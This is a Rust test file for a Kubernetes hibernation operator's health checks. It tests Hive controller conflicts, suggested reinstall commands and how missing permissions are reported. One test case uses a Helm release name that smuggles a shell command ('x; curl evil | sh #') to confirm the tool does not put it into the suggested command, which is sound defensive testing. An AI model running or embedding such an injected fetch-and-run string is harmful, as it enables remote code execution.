//! Checks over facts that no hub has to hold.

use jiff::Timestamp;
use serde_json::{Value, json};
use shared::annotation::keys;

use super::finding::CheckResult;
use super::finding::Status::{self, Failed, Ok as Fine, Warning};
use super::hub::Facts;
use super::installed::{CHECKS, VERSION};
use super::systems::hive;
use crate::api::error::HubError;

/// A hub with both Deployments, where nothing else is.
fn facts(controller: &Value, webhook: &Value) -> Facts {
    let deployment = |name: &str, replicas: &Value, args: &Value| {
        json!({
            "metadata": { "name": name, "labels": { "app.kubernetes.io/version": VERSION } },
            "spec": { "replicas": replicas, "template": { "spec": {
                "containers": [{ "args": args, "image": format!("{name}:v{VERSION}") }] } } },
        })
    };
    let named = |name: &str| json!({ "metadata": { "name": name } });
    Facts {
        now: Timestamp::UNIX_EPOCH,
        namespace: keys::NAMESPACE.to_owned(),
        groups: Vec::new(),
        rules: [Ok(None), Ok(None)],
        definition: Ok(None),
        deployments: Ok(vec![
            deployment(keys::CONTROLLER, controller, &json!([])),
            deployment(keys::WEBHOOK, &json!(2), webhook),
        ]),
        roles: Ok(vec![named("hibernate-controller-fdb")]),
        role_bindings: Ok(vec![named("hibernate-controller-secrets")]),
        policies: Ok(Some(Vec::new())),
        bindings: Ok(Vec::new()),
        service: Ok(None),
        endpoints: Ok(Vec::new()),
        secret: Ok(None),
        lease: Ok(None),
        talm: Ok(None),
        hive: Ok(None),
        has_user_clusters: false,
        trial: Ok(Value::Null),
    }
}

#[test]
fn one_controller_hibernates_the_clusters_of_a_hub() {
    let (all, ours) = (json!([]), json!(["--served-platforms=aws,openstack"]));
    for (off, replicas, webhook, expected, overlay) in [
        (false, 2, &all, Failed, "kubectl scale deployment hibernate-controller -n hibernate-system --replicas=0"),
        (false, 2, &ours, Failed, "kubectl scale deployment hibernate-controller -n hibernate-system --replicas=0"),
        (true, 0, &all, Failed, "manifests/overlays/cut-over"),
        (true, 0, &ours, Failed, "manifests/overlays/cut-over"),
        (true, 2, &all, Failed, "manifests/overlays/cut-over"),
        (true, 2, &ours, Fine, ""),
        (false, 0, &ours, Warning, "manifests/overlays/webhook-only"),
        (false, 0, &all, Fine, ""),
    ] {
        let mut facts = facts(&json!(replicas), webhook);
        let disabled = if off { json!(["hibernation"]) } else { json!(["clusterpool"]) };
        facts.hive = Ok(Some(json!({ "spec": { "disabledControllers": disabled } })));
        let found = hive(&facts).unwrap().unwrap();
        assert_eq!(found.status, expected, "{off} {replicas} {webhook}");
        assert!(found.commands.iter().all(|command| command.contains(overlay)), "{found:?}");
    }
    assert_eq!(hive(&facts(&json!(2), &all)).unwrap(), None, "a hub without Hive");
}

#[test]
fn what_runs_is_installed_again_as_it_is_or_by_its_owner() {
    let with = |change: &dyn Fn(&mut Facts)| {
        let mut facts = facts(&json!(2), &json!([]));
        change(&mut facts);
        facts.install("a=b")
    };
    let of = |facts: &mut Facts, at: usize, path: &str, value: Value| {
        *facts.deployments.as_mut().unwrap()[at].pointer_mut(path).unwrap() = value;
    };
    let args = "/spec/template/spec/containers/0/args";
    let helm = |release: &str| {
        let notes = json!({ "meta.helm.sh/release-name": release, "meta.helm.sh/release-namespace": "ops" });
        with(&|facts| of(facts, 1, "/metadata", json!({ "name": keys::WEBHOOK, "annotations": notes })))
    };
    let labeled =
        json!({ "webhooks": [{ "name": "suspend.hibernate.sh", "namespaceSelector": { "matchLabels": {} } }] });
    for (found, expected) in [
        (with(&|_| {}), "kubectl apply -k manifests/"),
        (
            with(&|facts| of(facts, 1, args, json!(["--served-platforms=aws"]))),
            "kubectl apply -k manifests/overlays/cut-over",
        ),
        (with(&|facts| of(facts, 0, "/spec/replicas", json!(0))), "kubectl apply -k manifests/overlays/webhook-only"),
        (
            with(&|facts| facts.rules[0] = Ok(Some(labeled.clone()))),
            "kubectl apply -k manifests/overlays/labeled-databases",
        ),
        (
            with(&|facts| {
                of(facts, 0, args, json!(["--kkp"]));
                (facts.roles, facts.role_bindings) = (Ok(Vec::new()), Ok(Vec::new()));
            }),
            "kubectl apply -k manifests/overlays/kkp",
        ),
        (helm("sleep"), "helm upgrade sleep charts/hibernate --namespace ops --reset-then-reuse-values --set a=b"),
        (helm("x; curl evil | sh #"), "kubectl apply -k manifests/"),
        // Only the owner knows the rest.
        (with(&|facts| facts.namespace = "sleep".to_owned()), ""),
        (with(&|facts| of(facts, 1, "/spec/template/spec/containers/0/image", json!("r.example.com/x:v1"))), ""),
        (with(&|facts| of(facts, 0, args, json!(["--cgu"]))), ""),
        (with(&|facts| facts.role_bindings = Ok(Vec::new())), ""),
        (with(&|facts| facts.deployments = Ok(Vec::new())), ""),
    ] {
        assert_eq!(found, expected);
    }
}

#[test]
fn every_missing_right_is_one_finding_and_no_failure() {
    let forbidden = || HubError::Forbidden { object: "o".to_owned(), message: "User \"bob\" cannot get".to_owned() };
    let mut facts = facts(&json!(2), &json!([]));
    facts.rules = [Err(forbidden()), Err(forbidden())];
    (facts.definition, facts.roles, facts.secret) = (Err(forbidden()), Err(forbidden()), Err(forbidden()));
    facts.service = Err(forbidden());
    (facts.deployments, facts.lease, facts.trial) = (Err(forbidden()), Err(forbidden()), Err(forbidden()));
    let statuses: Vec<Status> = CHECKS
        .iter()
        .filter_map(|(_, check)| match check(&facts) {
            Ok(result) => result.map(|result| result.status),
            Err(error) => Some(CheckResult::unread(error).status),
        })
        .collect();
    assert!(statuses.iter().all(|status| *status == Status::NotChecked), "{statuses:?}");
    assert_eq!(statuses.len(), 9, "a hub without KKP and TALM");
}
